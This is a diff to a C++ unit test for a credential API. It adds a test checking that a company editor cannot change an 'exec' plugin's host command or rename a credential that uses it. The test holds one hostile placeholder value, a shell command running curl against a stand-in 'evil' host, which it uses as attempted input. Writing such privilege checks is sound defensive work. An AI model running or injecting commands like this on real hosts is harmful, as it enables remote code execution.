@@ -2,6 +2,8 @@
 // companies' credentials and types, editors change them, hostile bodies.
 #include <boost/test/unit_test.hpp>
 
+#include "store/CredentialRepository.h"
+
 #include "ApiFixture.h"
 #include "Fixtures.h"
 #include "api/CredentialRoutes.h"
@@ -134,6 +136,34 @@ BOOST_FIXTURE_TEST_CASE(hostile_credential_bodies_name_the_member_and_change_not
                post(admin(), "/credential_type/{credentialTypeID}", "credentialTypeID", acmeType, {{"settings", sql}});
              }).field() == "settings");
   BOOST_TEST(digest() == before);
+}
+
+BOOST_FIXTURE_TEST_CASE(a_plugin_credential_type_acts_on_the_host_and_only_an_admin_changes_it, CredentialApi) {
+  // exec's COMMAND runs on the executor host: a company's editor must not set it.
+  CredentialType t;
+  t.companyId = acme;
+  t.name = "helper";
+  t.pluginType = "exec";
+  t.provides = "exec";
+  t.settings = {{"COMMAND", "/usr/bin/true"}};
+  const int64_t plugin = CredentialRepository(catalog->database()).createType(t);
+  Credential c;
+  c.companyId = acme;
+  c.typeId = plugin;
+  c.name = "via helper";
+  const int64_t viaPlugin = CredentialRepository(catalog->database()).create(c);
+  const Caller editor = member(acme, CompanyRole::Editor);
+  const auto type = thrown<ForbiddenException>([&] {
+    post(editor, "/credential_type/{credentialTypeID}", "credentialTypeID", plugin,
+         {{"settings", {{"COMMAND", "/bin/sh -c 'curl evil'"}}}});
+  });
+  BOOST_TEST(type.field() == "credentialTypeID");
+  const auto credential = thrown<ForbiddenException>([&] {
+    post(editor, "/credential/{credentialId}", "credentialId", viaPlugin, {{"name", "renamed"}});
+  });
+  BOOST_TEST(credential.field() == "credentialId");
+  BOOST_TEST(catalog->credentials().type(plugin).settings.at("COMMAND") == "/usr/bin/true");
+  BOOST_TEST(catalog->credentials().credential(viaPlugin).name == "via helper");
 }
 
 BOOST_AUTO_TEST_SUITE_END()
